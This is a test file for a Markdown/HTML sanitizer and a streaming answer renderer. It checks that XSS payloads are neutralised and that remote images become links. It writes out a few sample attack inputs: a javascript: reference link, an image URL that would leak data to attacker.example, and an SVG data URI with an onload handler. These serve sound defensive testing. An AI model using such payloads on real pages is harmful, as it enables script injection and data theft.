import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { renderMarkdown, sanitizeHtml, sanitizeToFragment, sanitizerWorks, stablePrefixLength } from "../src/markdown.js";
import { AnswerView } from "../src/render/answer.js";
import payloads from "../../tests/fixtures/xss-payloads.json";

// Every payload tries to flip this global flag or navigate to javascript:.
const PAYLOADS = payloads; // shared with the saved-view browser test (tests/fixtures/xss-payloads.json)

function render(html, md = false) {
  const div = document.createElement("div");
  div.append(md ? renderMarkdown(html) : sanitizeToFragment(html));
  document.body.append(div);
  return div;
}

function assertInert(div) {
  expect(div.querySelector("script, iframe, object, embed, form, style, meta, base, link, svg, math, input, button, template, video, source")).toBeNull();
  for (const el of div.querySelectorAll("*")) {
    for (const attr of el.attributes) {
      expect(attr.name.toLowerCase().startsWith("on"), `${el.tagName} ${attr.name}`).toBe(false);
      expect(attr.name.toLowerCase()).not.toBe("style");
      expect(attr.name.toLowerCase()).not.toBe("srcset");
      expect(attr.value.replace(/[\s\u0000-\u001f]/g, "")).not.toMatch(/^(javascript|vbscript|data:text)/i);
    }
  }
  for (const a of div.querySelectorAll("a[href]")) {
    expect(a.href.replace(/\s/g, "")).toMatch(/^(https?:|mailto:|#|about:blank#)/i);
    expect(a.getAttribute("target")).toBe("_blank");
    expect(a.getAttribute("rel")).toBe("noopener noreferrer");
  }
  for (const img of div.querySelectorAll("img[src]")) expect(img.getAttribute("src")).toMatch(/^data:image\//);
}

describe("sanitizer", () => {
  beforeEach(() => {
    delete globalThis.__pwned;
  });
  afterEach(() => {
    document.body.replaceChildren();
  });

  it("works in this DOM (jsdom)", () => {
    expect(sanitizerWorks()).toBe(true);
  });

  it(`neutralises ${PAYLOADS.length} XSS payloads, as HTML and as Markdown`, async () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(20);
    for (const p of PAYLOADS) {
      assertInert(render(p));
      assertInert(render(p, true));
      assertInert(render(`Some **text** and then ${p} and more`, true));
    }
    // let any queued handler (error events, timers) run
    await new Promise((r) => setTimeout(r, 50));
    for (const a of document.querySelectorAll("a")) a.click?.();
    expect(globalThis.__pwned).toBeUndefined();
  });

  it(`neutralises the ${PAYLOADS.length} payloads streamed into the incremental answer view, at every step`, async () => {
    for (const p of PAYLOADS) {
      await new Promise((r) => setTimeout(r, 0)); // let the worker's RPC breathe on a loaded machine
      const text = `Intro **text** [ref]\n\n${p}\n\nmiddle ${p} end\n\n- item ${p}\n\n[ref]: javascript:globalThis.__pwned=1\n`;
      const div = document.createElement("div");
      document.body.append(div);
      const view = new AnswerView(div);
      for (let end = 1; end <= text.length; end += 7) {
        view.update(text.slice(0, end), false);
        assertInert(div);
      }
      view.update(text, true);
      assertInert(div);
    }
    await new Promise((r) => setTimeout(r, 50));
    for (const a of document.querySelectorAll("a")) a.click?.();
    expect(globalThis.__pwned).toBeUndefined();
  }, 120_000);

  it("keeps ordinary Markdown: emphasis, code, lists, tables, safe links", () => {
    const div = render("# Title\n\n**b** _i_ `code`\n\n- a\n- b\n\n| x | y |\n|---|---|\n| 1 | 2 |\n\n[ok](https://example.org/a?b=1) <mailto:x@y.z>\n\n```py\nprint(1)\n```", true);
    expect(div.querySelector("h1").textContent).toBe("Title");
    expect(div.querySelector("strong").textContent).toBe("b");
    expect(div.querySelector("em").textContent).toBe("i");
    expect(div.querySelectorAll("li")).toHaveLength(2);
    expect(div.querySelector("table td").textContent).toBe("1");
    expect(div.querySelector("pre code").textContent).toBe("print(1)\n");
    const a = div.querySelector('a[href^="https"]');
    expect(a.getAttribute("href")).toBe("https://example.org/a?b=1");
    expect(a.getAttribute("target")).toBe("_blank");
    expect(a.getAttribute("rel")).toBe("noopener noreferrer");
  });

  it("turns remote images into links (no request to a model-chosen URL) and keeps inline raster data images", () => {
    const div = render("![chart](https://attacker.example/p.png?d=secret) ![dot](data:image/png;base64,iVBORw0KGgo=)", true);
    const imgs = div.querySelectorAll("img");
    expect(imgs).toHaveLength(1);
    expect(imgs[0].getAttribute("src")).toMatch(/^data:image\/png;base64,/);
    const link = div.querySelector("a.agentcell-img-link");
    expect(link.textContent).toBe("[image: chart]");
    expect(link.getAttribute("href")).toBe("https://attacker.example/p.png?d=secret");
    expect(link.getAttribute("rel")).toBe("noopener noreferrer");
  });

  it("does not allow svg data images", () => {
    const div = render('<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">', false);
    expect(div.querySelector("img[src]")).toBeNull();
  });

  it("prefixes id/name against DOM clobbering", () => {
    const html = sanitizeHtml('<p id="agentcell-x">a</p>');
    expect(html).not.toContain('id="agentcell-x"');
  });

  it("renders task lists without form inputs", () => {
    const div = render("- [x] done\n- [ ] todo", true);
    expect(div.querySelector("input")).toBeNull();
    expect(div.textContent).toContain("\u2611 done");
    expect(div.textContent).toContain("\u2610 todo");
  });
});

describe("incremental Markdown", () => {
  it("stablePrefixLength: complete blocks before the last one, complete lines only", () => {
    expect(stablePrefixLength("para one\n\npara two")).toBe(0); // "para two" is a partial line
    expect(stablePrefixLength("para one\n\npara two\n")).toBe("para one\n\n".length);
    expect(stablePrefixLength("no blank line yet\n")).toBe(0);
    expect(stablePrefixLength("a\n\n```\ncode\n\nmore code\n")).toBe(3); // open fence stays in the tail
    expect(stablePrefixLength("a\n\n```\ncode\n```\n\nafter\n")).toBe("a\n\n```\ncode\n```\n\n".length);
    expect(stablePrefixLength("- item\n\n  continued\n")).toBe(0); // one list
    expect(stablePrefixLength("- item\n\n-")).toBe(0); // "-" may still become "- item 2"
    expect(stablePrefixLength("intro\n\n - a\n - b\n\n sed do\n")).toBe("intro\n\n - a\n - b\n\n".length);
    expect(stablePrefixLength("| a |\n|---|\n| 1 |\n\nnext\n")).toBe("| a |\n|---|\n| 1 |\n\n".length);
  });

  it("renders complete blocks once and only re-renders the tail", () => {
    const el = document.createElement("div");
    const view = new AnswerView(el);
    let text = "";
    const paragraphs = Array.from({ length: 50 }, (_, i) => `Paragraph ${i} with **bold** text.\n\n`);
    for (const p of paragraphs) {
      for (const piece of p.match(/.{1,7}/gs)) {
        text += piece;
        view.update(text, false);
      }
    }
    const chunks = el.querySelectorAll(".agentcell-md-chunk");
    expect(chunks.length).toBeGreaterThan(40);
    expect(el.querySelectorAll("strong")).toHaveLength(50);
    view.update(text + "tai", false);
    const renders = view.renders;
    view.update(text + "tail", false);
    expect(view.renders - renders).toBe(1); // only the tail
    const before = { ...view.stats };
    const committed = el.querySelectorAll(".agentcell-md-chunk").length;
    expect(committed).toBe(49); // paragraph 49 is the last block of the complete lines: still open
    view.update(text + "tail", true);
    expect(el.querySelectorAll("p")).toHaveLength(51);
    // The final render keeps every chunk and renders only the open blocks: paragraph 49 and "tail".
    expect(el.querySelectorAll(".agentcell-md-chunk")).toHaveLength(committed + 2);
    expect(view.stats.chunkRenders - before.chunkRenders).toBe(2);
    expect(view.stats.chunkChars - before.chunkChars).toBe(paragraphs[49].length + "tail".length);
    expect(view.stats.tailRenders).toBe(before.tailRenders);
  });

  it("starts over when the text is replaced (retraction)", () => {
    const el = document.createElement("div");
    const view = new AnswerView(el);
    view.update("first answer\n\nmore", false);
    view.update("different", false);
    expect(el.textContent).not.toContain("first");
    expect(el.textContent).toContain("different");
  });
});
